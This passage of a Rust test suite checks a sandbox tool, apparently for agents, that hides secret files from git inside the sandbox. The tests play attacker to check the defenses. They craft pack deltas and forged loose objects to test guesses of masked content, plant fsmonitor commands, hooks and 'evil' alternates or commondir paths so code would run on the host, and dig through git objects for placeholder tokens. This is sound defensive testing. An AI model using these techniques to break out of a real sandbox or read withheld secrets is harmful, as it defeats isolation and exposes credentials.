        git(&["add", "-A"]);
        git(&["commit", "-qm", "two files"]);
        // The store is built: .env's blob withheld, notes.txt's packed.
        let o = p.run(backend, "git show HEAD:notes.txt");
        assert!(o.stdout.contains("sk-live-MOVED"), "{who} {}", o.stderr);
        git(&["rm", "-q", ".env"]);
        git(&["mv", "notes.txt", ".env"]);
        git(&["commit", "-qm", "moved"]);
        let o = p.run(
            backend,
            "git show HEAD:.env; git show HEAD~1:notes.txt; git cat-file --batch-all-objects --batch; echo dug=yes",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("dug", "yes");
        assert!(
            !o.stdout.contains("sk-live-"),
            "{who} a blob moved under a masked name is still in the store:\n{}",
            o.stdout
        );
    }
}

as_root_and_a_user!(a_file_moved_into_a_mask_is_withheld_as_root, a_file_moved_into_a_mask_is_withheld_as_a_user => moved_into_a_mask);

/// A review's attack on bringing the sandbox's work back: a pack it crafts holds a blob as a
/// delta on a withheld blob (its first bytes copied) under the name of a guess. Resolved
/// against the host's real blob, the commit naming it would come back exactly when the guess
/// is right: one test of a guess of masked content per run. Brought back against the store the
/// sandbox saw (each object re-hashed, the delta resolved on the placeholder), it never comes
/// back, right guess or not.
fn delta_guess(user: Option<(u32, u32)>) {
    let crafter = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/delta_guess.py");
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-ORACLE\n").unwrap();
        std::fs::write(proj.join("a"), "a\n").unwrap();
        std::fs::create_dir_all(proj.join("d")).unwrap();
        std::fs::write(proj.join("d/f"), "f\n").unwrap();
        std::fs::copy(crafter, proj.join("craft.py")).unwrap();
        p.git_ok(&who, &["add", ".env", "a", "d"]);
        p.git_ok(&who, &["commit", "-qm", "env"]);
        // The right guess: the real content's first three bytes, and its real size.
        let o = p.run(
            backend,
            "X=$(git rev-parse HEAD:.env); SIZE=$(git ls-files --debug .env | sed -n 's/.*size: *\\([0-9]*\\).*/\\1/p')\n\
             set -- $(python3 craft.py .git/objects/pack $X TOK 3 $(git rev-parse HEAD) $(git rev-parse HEAD:a) $(git rev-parse HEAD:d) $SIZE)\n\
             git update-ref refs/heads/leak $1 && echo crafted=$1",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        let c = o.value("crafted").unwrap_or_default().to_string();
        assert_eq!(c.len(), 40, "{who} {}\n{}", o.stdout, o.stderr);
        let has = p.git(&["cat-file", "-e", &c]);
        assert_ne!(
            has.code, 0,
            "{who} the commit naming a right guess of withheld content came back: the host resolved the sandbox's delta against the real blob\n{}",
            o.stderr
        );
        // The host's own history is whole.
        assert_eq!(p.git(&["fsck", "--no-dangling"]).code, 0, "{who}");
    }
}

as_root_and_a_user!(a_crafted_delta_cannot_test_a_guess_of_withheld_content_as_root, a_crafted_delta_cannot_test_a_guess_of_withheld_content_as_a_user => delta_guess);

/// A repository with nothing masked gets no store; when the host then commits a secret, the
/// first store is built whole: the files committed before it read as they are inside (not as
/// placeholders), and the secret does not.
fn first_secret(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        // A file only the history holds (not in the index, which pass one also reads).
        std::fs::write(p.proj().join("old.txt"), "old\n").unwrap();
        p.git_ok(&who, &["add", "old.txt"]);
        p.git_ok(&who, &["commit", "-qm", "old"]);
        p.git_ok(&who, &["rm", "-q", "old.txt"]);
        p.git_ok(&who, &["commit", "-qm", "gone"]);
        let o = p.run(backend, "git show HEAD~1:old.txt");
        assert_eq!(o.stdout, "old\n", "{who} {}", o.stderr);
        std::fs::write(p.proj().join(".env"), "TOKEN=sk-live-FIRSTSECRET\n").unwrap();
        std::fs::write(p.proj().join("more.txt"), "more\n").unwrap();
        p.git_ok(&who, &["add", ".env", "more.txt"]);
        p.git_ok(&who, &["commit", "-qm", "secret"]);
        let o = p.run(
            backend,
            "echo readme=$(git show HEAD:README); echo more=$(git show HEAD:more.txt); \
             echo old=$(git show HEAD~2:old.txt); \
             git show HEAD:.env; git cat-file --batch-all-objects --batch",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("readme", "hello");
        o.expect("more", "more");
        o.expect("old", "old");
        assert!(
            !o.stdout.contains("sk-live-FIRSTSECRET") && o.stdout.contains("aisb: withheld: .env"),
            "{who}:\n{}",
            o.stdout
        );
    }
}

as_root_and_a_user!(the_first_secret_committed_builds_the_store_whole_as_root, the_first_secret_committed_builds_the_store_whole_as_a_user => first_secret);

/// Issue 30 item 4 in a named sandbox: its clone borrows the repository's objects (alternates
/// to the repository's `.git`, which it sees read-only for `git fetch origin`), and neither
/// the clone nor the repository's git directory seen inside gives the content of a masked file
/// — committed, removed from the tree, staged on the host, or unreachable. A commit made
/// inside reaches the host whole. While the session runs, the host commits a new secret: the
/// sandbox's `git fetch origin` gets the commit, not the secret. A pack crafted inside (a delta on
/// the withheld blob under the name of a right guess) never reaches the host's
/// `sandbox-NAME/*` refs: the host's sync resolves it against what the sandbox saw. The test
/// of the tests: with the store off, the same digging finds the secrets.
fn named_history(user: Option<(u32, u32)>) {
    let crafter = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/delta_guess.py");
    // Digging in the clone and in the repository's git directory the sandbox sees.
    let dig = format!(
        "{DIG}\nO=$(git remote get-url origin)\n\
         git --git-dir=\"$O/.git\" cat-file --batch-all-objects --batch\n\
         git --git-dir=\"$O/.git\" show :.env.local\n\
         git --git-dir=\"$O/.git\" log -p --all | cat\n"
    );
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        let git = |args: &[&str]| p.git_ok(&who, args);
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-OLD\n").unwrap();
        std::fs::write(proj.join("deploy.pem"), "sk-live-PEM\n").unwrap();
        std::fs::write(proj.join("a"), "a\n").unwrap();
        std::fs::create_dir_all(proj.join("d")).unwrap();
        std::fs::write(proj.join("d/f"), "f\n").unwrap();
        std::fs::copy(crafter, proj.join("craft.py")).unwrap();
        git(&["add", "-A"]);
        git(&["commit", "-qm", "one"]);
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-NEW\n").unwrap();
        std::fs::remove_file(proj.join("deploy.pem")).unwrap();
        git(&["commit", "-qam", "two"]);
        std::fs::write(proj.join(".env.local"), "TOKEN=sk-live-STAGED\n").unwrap();
        git(&["add", ".env.local"]);
        std::fs::write(proj.join("dangling.txt"), "sk-live-DANGLING\n").unwrap();
        git(&["hash-object", "-w", "dangling.txt"]);
        std::fs::remove_file(proj.join("dangling.txt")).unwrap();

        // The session: dig, commit, craft the guess, then wait for the host's commit.
        let script = format!(
            "{dig}\necho more >> a && git -c user.name=a -c user.email=a@a commit -qam inside && echo commit=ok\n\
             X=$(git rev-parse HEAD:.env); SIZE=$(git ls-files --debug .env | sed -n 's/.*size: *\\([0-9]*\\).*/\\1/p')\n\
             set -- $(python3 craft.py .git/objects/pack $X TOK 3 $(git rev-parse HEAD) $(git rev-parse HEAD:a) $(git rev-parse HEAD:d) $SIZE)\n\
             git update-ref refs/heads/leak $1 && echo crafted=$1\n\
             touch ready\n\
             i=0; while [ $i -lt 300 ] && [ \"$(git -c core.commitGraph=false fetch -q origin 2>/dev/null; git log -1 --format=%s origin/main 2>/dev/null)\" != host ]; do sleep 0.1; i=$((i+1)); done\n\
             echo origin_last=$(git log -1 --format=%s origin/main)\n\
             git show origin/main:.env; git log -p origin/main | cat; git cat-file --batch-all-objects --batch\n\
             git --git-dir=\"$O/.git\" cat-file --batch-all-objects --batch\n"
        );
        let mut child = p.spawn_named(backend, "s1", &script);
        p.wait_in_clone(&who, "s1", "ready", &mut child);
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-THIRD\n").unwrap();
        git(&["commit", "-qm", "host", ".env"]);
        let o = Project::finish(child);
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        for secret in ["OLD", "NEW", "PEM", "STAGED", "DANGLING", "THIRD"] {
            let s = format!("sk-live-{secret}");
            assert!(
                !o.stdout.contains(&s) && !o.stderr.contains(&s),
                "{who} {s} recovered through git in a named sandbox:\n{}\n{}",
                o.stdout,
                o.stderr
            );
        }
        assert!(
            o.stdout.contains("aisb: withheld: .env"),
            "{who}\n{}",
            o.stdout
        );
        o.expect("commit", "ok");
        o.expect("origin_last", "host");
        let c = o.value("crafted").unwrap_or_default().to_string();
        assert_eq!(c.len(), 40, "{who} {}\n{}", o.stdout, o.stderr);
        // The commit made inside reached the host whole; the crafted one did not.
        assert_eq!(
            p.git(&["log", "-1", "--format=%s", "sandbox-s1/main"])
                .stdout
                .trim(),
            "inside",
            "{who} {}",
            o.stderr
        );
        assert_ne!(
            p.git(&["cat-file", "-e", &c]).code,
            0,
            "{who} the commit naming a right guess of withheld content reached the host: its sync resolved the sandbox's delta against the real blob\n{}",
            o.stderr
        );
        assert_eq!(p.git(&["fsck", "--no-dangling"]).code, 0, "{who}");

        // The test of the tests: without the store, the same digging finds them.
        let mut cmd = p.named_cmd(backend, "s2", &dig);
        cmd.env("AISB_TEST_BREAK_ISOLATION", "git-objects");
        let o = Out::from(cmd.output().unwrap());
        for secret in ["THIRD", "OLD", "PEM", "STAGED"] {
            assert!(
                o.stdout.contains(&format!("sk-live-{secret}")),
                "{who} the digging does not find sk-live-{secret} even without the store:\n{}\n{}",
                o.stdout,
                o.stderr
            );
        }
    }
}

as_root_and_a_user!(masked_content_is_not_in_the_git_objects_of_a_named_sandbox_as_root, masked_content_is_not_in_the_git_objects_of_a_named_sandbox_as_a_user => named_history);

/// Real repository shapes work inside (issue 30): a submodule, a linked work tree (its
/// repository's git directory private to the run, its masked history withheld), husky's hooks path, git-crypt unlocked and locked, Git LFS, a shallow clone. In each, `git status`,
/// `add` and `commit` work inside and the commit reaches the host; what each shape keeps
/// private (git-crypt's plaintext) stays so.
fn shapes(user: Option<(u32, u32)>) {
    const COMMIT: &str = "git status --porcelain >/dev/null && echo status=ok\n\
        echo more >> README && git add README && \
        git -c user.name=a -c user.email=a@a commit -qm inside && echo commit=ok\n\
        echo log=$(git log -1 --format=%s)\n";
    let base = tempfile::tempdir().unwrap();
    for backend in BACKENDS {
        for shape in [
            "submodule",
            "worktree",
            "husky",
            "git-crypt",
            "git-crypt-locked",
            "lfs",
            "shallow",
        ] {
            let who = format!("{} {shape}", who(backend, user));
            let p = Project::new(user);
            let proj = p.proj();
            // Made as root (git refuses a repository another user owns), handed over below.
            support::chown_r(&proj, 0, 0);
            let host = support::git_in;
            let mut run_in = proj.clone();
            let extra: String = match shape {
                "worktree" => {
                    // The repository's history holds a secret; the work tree is linked.
                    std::fs::write(proj.join(".env"), "TOKEN=sk-live-WORKTREE\n").unwrap();
                    support::commit_all(&proj, "env");
                    run_in = p.dir.path().join("wt");
                    host(
                        &proj,
                        &[
                            "worktree",
                            "add",
                            "-q",
                            "-b",
                            "wtb",
                            &run_in.to_string_lossy(),
                        ],
                    );
                    "echo branch=$(git branch --show-current)\ngit show HEAD:.env; git log -p --all | cat\n\
                     echo other=$(ls -A \"$(git rev-parse --git-common-dir)/..\" | tr '\\n' ' ')\n"
                        .into()
                }
                "submodule" => {
                    let sub = p.dir.path().join("subsrc");
                    std::fs::create_dir_all(&sub).unwrap();
                    support::git_in(&sub, &["init", "-q", "-b", "main"]);
                    std::fs::write(sub.join("f"), "in-sub\n").unwrap();
                    support::commit_all(&sub, "sub");
                    host(
                        &proj,
                        &[
                            "-c",
                            "protocol.file.allow=always",
                            "submodule",
                            "add",
                            "-q",
                            &sub.to_string_lossy(),
                            "sub",
                        ],
                    );
                    support::commit_all(&proj, "with sub");
                    "git submodule status >/dev/null && echo sub=ok\n\
                             echo subfile=$(cat sub/f)\necho sublog=$(git -C sub log -1 --format=%s)\n".into()
                }
                "husky" => {
                    std::fs::create_dir_all(proj.join(".husky")).unwrap();
                    std::fs::write(
                        proj.join(".husky/pre-commit"),
                        "#!/bin/sh\necho ran > /tmp/husky-ran\n",
                    )
                    .unwrap();
                    std::process::Command::new("chmod")
                        .arg("755")
                        .arg(proj.join(".husky/pre-commit"))
                        .status()
                        .unwrap();
                    host(&proj, &["config", "core.hooksPath", ".husky"]);
                    support::commit_all(&proj, "husky");
                    "echo hook=$(cat /tmp/husky-ran 2>/dev/null)\n".into()
                }
                "git-crypt" | "git-crypt-locked" => {
                    let o = std::process::Command::new("git-crypt")
                        .arg("init")
                        .current_dir(&proj)
                        .output()
                        .unwrap();
                    assert!(
                        o.status.success(),
                        "{who} git-crypt init: {}",
                        String::from_utf8_lossy(&o.stderr)
                    );
                    std::fs::write(
                        proj.join(".gitattributes"),
                        "vault/** filter=git-crypt diff=git-crypt\n",
                    )
                    .unwrap();
                    std::fs::create_dir_all(proj.join("vault")).unwrap();
                    std::fs::write(proj.join("vault/key.txt"), "sk-live-CRYPT\n").unwrap();
                    support::commit_all(&proj, "vault");
                    if shape == "git-crypt-locked" {
                        let o = std::process::Command::new("git-crypt")
                            .arg("lock")
                            .current_dir(&proj)
                            .output()
                            .unwrap();
                        assert!(
                            o.status.success(),
                            "{who} git-crypt lock: {}",
                            String::from_utf8_lossy(&o.stderr)
                        );
                    }
                    "git show HEAD:vault/key.txt; git log -p | cat; cat vault/key.txt\n".into()
                }
                "lfs" => {
                    host(&proj, &["lfs", "install", "--local"]);
                    std::fs::write(
                        proj.join(".gitattributes"),
                        "*.bin filter=lfs diff=lfs merge=lfs -text\n",
                    )
                    .unwrap();
                    std::fs::write(proj.join("big.bin"), "large-content\n").unwrap();
                    support::commit_all(&proj, "lfs");
                    format!("echo big=$(cat big.bin)\necho pointer=$(git show HEAD:big.bin | head -1)\n\
                             echo bin >> big.bin && git add big.bin && git -c user.name=a -c user.email=a@a commit -qm bin && echo lfs_commit=ok\n{LFS_OID}{LFS_FORGE}")
                }
                "shallow" => {
                    let full = base
                        .path()
                        .join(format!("full-{backend}-{}", user.is_some()));
                    std::fs::create_dir_all(&full).unwrap();
                    support::git_in(&full, &["init", "-q", "-b", "main"]);
                    std::fs::write(full.join(".env"), "TOKEN=sk-live-SHALLOW\n").unwrap();
                    std::fs::write(full.join("README"), "one\n").unwrap();
                    support::commit_all(&full, "one");
                    std::fs::write(full.join("README"), "two\n").unwrap();
                    support::commit_all(&full, "two");
                    let _ = std::fs::remove_dir_all(&proj);
                    let o = std::process::Command::new("git")
                        .args(["clone", "-q", "--depth", "1"])
                        .arg(format!("file://{}", full.display()))
                        .arg(&proj)
                        .output()
                        .unwrap();
                    assert!(
                        o.status.success(),
                        "{who} clone: {}",
                        String::from_utf8_lossy(&o.stderr)
                    );
                    "echo depth=$(git log --oneline | wc -l)\ngit show HEAD:.env\n".into()
                }
                _ => unreachable!(),
            };
            if let Some((uid, gid)) = user {
                support::chown_r(p.dir.path(), uid, gid);
            }
            let mut cmd = p.run_cmd(backend, &format!("{COMMIT}{extra}\ntrue"));
            cmd.current_dir(&run_in);
            let o = Out::from(cmd.output().unwrap());
            assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
            o.expect("status", "ok");
            o.expect("commit", "ok");
            o.expect("log", "inside");
            let mut back = Command::new("git");
            p.as_caller(&mut back);
            back.current_dir(&run_in).args(["log", "-1", "--format=%s"]);
            let back = Out::from(back.output().unwrap());
            // (The LFS case commits once more, after `inside`.)
            assert_eq!(
                back.stdout.trim(),
                if shape == "lfs" { "bin" } else { "inside" },
                "{who} the commit did not reach the host: {}\n{}",
                back.stderr,
                o.stderr
            );
            match shape {
                "submodule" => {
                    o.expect("sub", "ok");
                    o.expect("subfile", "in-sub");
                    o.expect("sublog", "sub");
                }
                "husky" => o.expect("hook", "ran"),
                "worktree" => {
                    o.expect("branch", "wtb");
                    assert!(
                        !o.stdout.contains("sk-live-WORKTREE"),
                        "{who}\n{}",
                        o.stdout
                    );
                    // The main work tree is not there: only its git directory.
                    o.expect("other", ".git");
                    // The main work tree's branch did not move.
                    assert_eq!(
                        p.git(&["log", "-1", "--format=%s", "main"]).stdout.trim(),
                        "env",
                        "{who}"
                    );
                }
                "git-crypt" | "git-crypt-locked" => assert!(
                    !o.stdout.contains("sk-live-CRYPT"),
                    "{who} git-crypt's plaintext inside:\n{}",
                    o.stdout
                ),
                "lfs" => {
                    o.expect("big", "large-content");
                    o.expect("pointer", "version https://git-lfs.github.com/spec/v1");
                    o.expect("lfs_commit", "ok");
                    lfs_came_back(&who, &o, &proj.join(".git"), "large-content\nbin\n");
                }
                "shallow" => {
                    // The clone's one commit and the one made inside.
                    o.expect("depth", "2");
                    assert!(!o.stdout.contains("sk-live-SHALLOW"), "{who}\n{}", o.stdout);
                }
                _ => {}
            }
        }
    }
}

as_root_and_a_user!(real_repository_shapes_work_inside_as_root, real_repository_shapes_work_inside_as_a_user => shapes);

/// A linked work tree's run plants what the host's git would obey, in the work tree's own git
/// directory (`commondir`, `config.worktree`, `gitdir`) and in the repository's common one
/// (`config` and a hook, read-only inside; another work tree's directory, alternates), and
/// commits. After the run
/// the host's git, in the linked work tree and in the main one, runs nothing of it, every
/// planted file was reported and none is on the host, and the commit came back.
fn worktree_plants(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        support::chown_r(&proj, 0, 0);
        let wt = p.dir.path().join("wt");
        support::git_in(
            &proj,
            &["worktree", "add", "-q", "-b", "wtb", &wt.to_string_lossy()],
        );
        if let Some((uid, gid)) = user {
            support::chown_r(p.dir.path(), uid, gid);
        }
        let script = format!(
            r#"M={m}
A=$(git rev-parse --absolute-git-dir); C=$(cd "$(git rev-parse --git-common-dir)" && pwd)
echo x > inside.txt && git add inside.txt && git -c user.name=a -c user.email=a@a commit -qm inside && echo commit=ok
printf '[core]\n\tfsmonitor = touch %s/config-worktree\n' "$M" > "$A/config.worktree"; echo config_worktree=$?
printf '[core]\n\tfsmonitor = touch %s/config\n' "$M" >> "$C/config"; echo config=$?
mkdir -p "$C/hooks" && printf '#!/bin/sh\ntouch %s/hook\n' "$M" > "$C/hooks/post-checkout" && chmod +x "$C/hooks/post-checkout"; echo hook=$?
mkdir -p "$C/worktrees/other" && echo /tmp > "$C/worktrees/other/gitdir"; echo other=$?
mkdir -p "$C/objects/info" && echo /tmp/evil/objects >> "$C/objects/info/alternates"; echo alternates=$?
echo /tmp/elsewhere/.git > "$A/gitdir"; echo gitdir=$?
echo ../../../evil > "$A/commondir"; echo commondir=$?
"#,
            m = p.marks().display()
        );
        let mut cmd = p.run_cmd(backend, &script);
        cmd.current_dir(&wt);
        let o = Out::from(cmd.output().unwrap());
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("commit", "ok");
        for k in [
            "config_worktree",
            "other",
            "alternates",
            "gitdir",
            "commondir",
        ] {
            o.expect(k, "0");
        }
        // The repository's configuration and hooks are read-only inside, as a main work
        // tree's are.
        o.expect_failed("config", "the common configuration is read-only inside");
        o.expect_failed("hook", "the common hooks are read-only inside");
        let common = proj.join(".git");
        for f in [
            "worktrees/wt/config.worktree",
            "worktrees/other",
            "objects/info/alternates",
            "hooks/post-checkout",
        ] {
            assert!(
                std::fs::symlink_metadata(common.join(f)).is_err(),
                "{who} {f} reached the host"
            );
        }
        for f in [
            "worktrees/wt/config.worktree",
            "worktrees/wt/commondir",
            "worktrees/wt/gitdir",
            "worktrees/other",
            "objects/info/alternates",
        ] {
            assert!(
                o.stderr
                    .contains(&format!(".git/{f} was written by the sandbox")),
                "{who} {f} not reported: {}",
                o.stderr
            );
        }
        assert_eq!(
            std::fs::read_to_string(common.join("worktrees/wt/commondir"))
                .unwrap()
                .trim(),
            "../..",
            "{who}"
        );
        assert!(
            std::fs::read_to_string(common.join("worktrees/wt/gitdir"))
                .unwrap()
                .starts_with(&wt.to_string_lossy().to_string()),
            "{who}"
        );
        assert!(
            !std::fs::read_to_string(common.join("config"))
                .unwrap()
                .contains("fsmonitor"),
            "{who}"
        );
        // The host's git in both work trees, with every switch that would read a plant.
        let in_dir = |dir: &std::path::Path, args: &[&str]| {
            let mut cmd = Command::new("git");
            p.as_caller(&mut cmd);
            Out::from(cmd.current_dir(dir).args(args).output().unwrap())
        };
        for dir in [&wt, &proj] {
            let st = in_dir(dir, &["-c", "extensions.worktreeConfig=true", "status"]);
            assert_eq!(st.code, 0, "{who} {}", st.stderr);
        }
        let co = in_dir(&wt, &["checkout", "-q", "-b", "after"]);
        assert_eq!(co.code, 0, "{who} {}", co.stderr);
        assert_eq!(
            p.marked(),
            Vec::<String>::new(),
            "{who} planted code ran on the host"
        );
        assert_eq!(
            in_dir(&wt, &["log", "-1", "--format=%s", "wtb"])
                .stdout
                .trim(),
            "inside",
            "{who} {}",
            o.stderr
        );
        assert_eq!(in_dir(&proj, &["fsck", "--no-dangling"]).code, 0, "{who}");
    }
}

as_root_and_a_user!(a_linked_work_tree_plants_nothing_for_the_host_as_root, a_linked_work_tree_plants_nothing_for_the_host_as_a_user => worktree_plants);

/// A named sandbox whose repository has nothing masked when the session starts, and which
/// prepares the host's sync to send it everything: it deletes its clone's refs and writes a
/// commit-graph of its own (a `git fetch origin` on the host would then find nothing in
/// common and copy the repository's whole history into the clone's objects). The host then
/// commits a secret, and writes one into `COMMIT_EDITMSG` (as `git commit -v` leaves the staged
/// diff there). The sandbox sees the host's new commit (`origin/main`), never the secret: not
/// through the clone's objects, the repository's objects, its index or its other files.
fn named_later(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        let script = "O=$(git remote get-url origin)\n\
             git for-each-ref --format='delete %(refname)' refs/remotes | git update-ref --stdin\n\
             mkdir -p .git/objects/info && head -c 4096 /dev/urandom > .git/objects/info/commit-graph\n\
             touch ready\n\
             i=0; while [ $i -lt 300 ] && [ \"$(git -c core.commitGraph=false fetch -q origin 2>/dev/null; git log -1 --format=%s origin/main 2>/dev/null)\" != host ]; do sleep 0.1; i=$((i+1)); done\n\
             echo origin_last=$(git log -1 --format=%s origin/main)\n\
             sleep 1\n\
             git show origin/main:.env; git log -p origin/main | cat\n\
             git cat-file --batch-all-objects --batch\n\
             for f in .git/objects/pack/*.pack; do [ -e \"$f\" ] && git unpack-objects -n < \"$f\" 2>&1; done\n\
             git --git-dir=\"$O/.git\" cat-file --batch-all-objects --batch\n\
             cat \"$O/.git/COMMIT_EDITMSG\" \"$O/.git/index\" 2>/dev/null\n\
             test -e \"$O/.git/index\"; echo index=$?\n\
             ls \"$O/.git\" | tr '\\n' ' '; echo\n";
        let mut child = p.spawn_named(backend, "s1", script);
        p.wait_in_clone(&who, "s1", "ready", &mut child);
        // Enough history for a transfer to be kept as a pack.
        for i in 0..120 {
            std::fs::write(proj.join(format!("f{i}.txt")), format!("{i}\n")).unwrap();
        }
        std::fs::write(proj.join(".env"), "TOKEN=sk-live-LATER\n").unwrap();
        p.git_ok(&who, &["add", "-A"]);
        p.git_ok(&who, &["commit", "-qm", "host"]);
        std::fs::write(
            proj.join(".git/COMMIT_EDITMSG"),
            "host\n# +TOKEN=sk-live-EDITMSG\n",
        )
        .unwrap();
        let o = Project::finish(child);
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("origin_last", "host");
        o.expect_failed("index", "the repository's index is not inside");
        for s in ["sk-live-LATER", "sk-live-EDITMSG"] {
            assert!(
                !o.stdout.contains(s) && !o.stderr.contains(s),
                "{who} {s} read in a named sandbox:\n{}\n{}",
                o.stdout,
                o.stderr
            );
        }
        assert!(
            o.stdout.contains("aisb: withheld: .env"),
            "{who}\n{}",
            o.stdout
        );
    }
}

as_root_and_a_user!(a_secret_committed_during_a_named_session_stays_out_as_root, a_secret_committed_during_a_named_session_stays_out_as_a_user => named_later);

/// The oracle through a forged loose object (a review's attack on the named sandbox's sync):
/// the sandbox knows the name and size of a secret blob the host has but the sandbox's view
/// does not (staged, then unstaged on the host), commits a tree naming it, writes a loose
/// object under that name holding a guess, and commits a blob that starts with the guess. Had
/// the host's sync used the forged object as a delta base and applied the delta to the real
/// blob, the commit would arrive exactly when the guess is right. Neither the right nor a
/// wrong guess arrives: a loose object whose content is not its name is never taken.
fn named_forged(user: Option<(u32, u32)>) {
    let forger = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/forge_loose.py");
    let secret = "TOKEN=sk-live-FORGED-0123456789abcdef\n";
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        std::fs::write(proj.join(".env"), "TOKEN=committed\n").unwrap();
        std::fs::copy(forger, proj.join("forge.py")).unwrap();
        p.git_ok(&who, &["add", "-A"]);
        p.git_ok(&who, &["commit", "-qm", "env"]);
        // The secret blob: on the host, in no commit and no index the store reads.
        std::fs::write(p.dir.path().join("secret"), secret).unwrap();
        let x = p
            .git(&["hash-object", "-w", "../secret"])
            .stdout
            .trim()
            .to_string();
        assert_eq!(x.len(), 40, "{who}");
        let size = secret.len();
        let right = &secret[..20];
        let script = format!(
            "X={x}; SIZE={size}\n\
             HC=$(git rev-parse HEAD); R=$(git rev-parse HEAD:README)\n\
             T=$(printf '100644 blob %s\\t.env\\n100644 blob %s\\tREADME\\n' $X $R | git mktree --missing)\n\
             C1=$(git -c user.name=a -c user.email=a@a commit-tree -p $HC -m base $T)\n\
             git update-ref refs/heads/base $C1\n\
             probe() {{\n\
               python3 -c \"import sys; g=sys.argv[1].encode(); open('/tmp/g','wb').write((g+b'_'*$SIZE)[:$SIZE])\" \"$2\"\n\
               python3 forge.py .git/objects $X /tmp/g\n\
               Y=$( (printf '%s' \"$2\"; printf 'QQQQ-unique-suffix-%s' \"$1\") | git hash-object -w --stdin)\n\
               T2=$(printf '100644 blob %s\\t.env\\n100644 blob %s\\tREADME\\n' $Y $R | git mktree)\n\
               git update-ref refs/heads/$1 $(git -c user.name=a -c user.email=a@a commit-tree -p $C1 -m $1 $T2)\n\
               sleep 2\n\
             }}\n\
             probe right '{right}'\nprobe wrong 'TOKEN=sk-live-WRONG!'\n"
        );
        let o = Out::from(p.named_cmd(backend, "s1", &script).output().unwrap());
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        for probe in ["right", "wrong"] {
            let got = p.git(&[
                "rev-parse",
                "-q",
                "--verify",
                &format!("refs/remotes/sandbox-s1/{probe}"),
            ]);
            assert_ne!(
                got.code, 0,
                "{who} the {probe} guess arrived on the host: the sync resolved the sandbox's delta against the real blob\n{}",
                o.stderr
            );
        }
        assert_eq!(p.git(&["fsck", "--no-dangling"]).code, 0, "{who}");
    }
}

as_root_and_a_user!(a_forged_loose_object_cannot_test_a_guess_as_root, a_forged_loose_object_cannot_test_a_guess_as_a_user => named_forged);

/// A reviewer's attacks on the linked work tree: its hooks path (set in the repository's
/// configuration, relative to the work tree) is read-only inside; another work tree's
/// git-crypt keys are masked; a token in a work tree's `config.worktree` is not inside; a
/// branch another work tree has checked out is never moved by what comes back; a link made
/// at `worktrees/` never makes the host read its target as the sandbox's index. And a crafted
/// `.git` file whose "repository" is the project's parent is not taken for a work tree.
fn worktree_review(user: Option<(u32, u32)>) {
    for backend in BACKENDS {
        let who = who(backend, user);
        let p = Project::new(user);
        let proj = p.proj();
        support::chown_r(&proj, 0, 0);
        let wt = p.dir.path().join("wt");
        support::git_in(&proj, &["config", "core.hooksPath", ".githooks"]);
        support::git_in(&proj, &["config", "extensions.worktreeConfig", "true"]);
        support::git_in(
            &proj,
            &["worktree", "add", "-q", "-b", "wtb", &wt.to_string_lossy()],
        );
        support::git_in(
            &proj,
            &[
                "worktree",
                "add",
                "-q",
                "-b",
                "other",
                &p.dir.path().join("wt2").to_string_lossy(),
            ],
        );
        support::git_in(
            &wt,
            &[
                "config",
                "--worktree",
                "remote.origin.url",
                "https://u:ghp_WORKTREETOKEN@example.com/r.git",
            ],
        );
        let keys = proj.join(".git/worktrees/wt2/git-crypt/keys");
        std::fs::create_dir_all(&keys).unwrap();
        std::fs::write(keys.join("default"), "GITCRYPTKEY-OTHER").unwrap();
        if let Some((uid, gid)) = user {
            support::chown_r(p.dir.path(), uid, gid);
        }
        let index_before = std::fs::read(proj.join(".git/worktrees/wt/index")).unwrap();
        let script = format!(
            r#"M={m}
C=$(cd "$(git rev-parse --git-common-dir)" && pwd)
mkdir -p .githooks 2>/dev/null; printf '#!/bin/sh\ntouch %s/hook\n' "$M" > .githooks/pre-commit; echo hook=$?
cat "$C/worktrees/wt2/git-crypt/keys/default"; echo key=$?
echo url=$(git config --get remote.origin.url)
git checkout -q --ignore-other-worktrees main && echo x > took.txt && git add took.txt && git -c user.name=a -c user.email=a@a commit -qm took && echo took=ok
"#,
            m = p.marks().display()
        );
        let mut cmd = p.run_cmd(backend, &script);
        cmd.current_dir(&wt);
        let o = Out::from(cmd.output().unwrap());
        o.expect_failed("hook", "the work tree's hooks path is read-only inside");
        o.expect_failed("key", "another work tree's git-crypt key is masked");
        assert!(!o.stdout.contains("GITCRYPTKEY"), "{who}\n{}", o.stdout);
        assert!(
            !o.stdout.contains("WORKTREETOKEN"),
            "{who} the token in config.worktree is inside:\n{}",
            o.stdout
        );
        o.expect("took", "ok");
        // The main work tree's branch did not move; the commit waits under refs/aisb/.
        let main = p.git(&["log", "-1", "--format=%s", "main"]);
        assert_eq!(
            main.stdout.trim(),
            "init",
            "{who} the main work tree's branch moved:\n{}",
            o.stderr
        );
        let kept = p.git(&["for-each-ref", "--format=%(subject)", "refs/aisb/"]);
        assert!(
            kept.stdout.contains("took"),
            "{who} the commit was lost: {}\n{}",
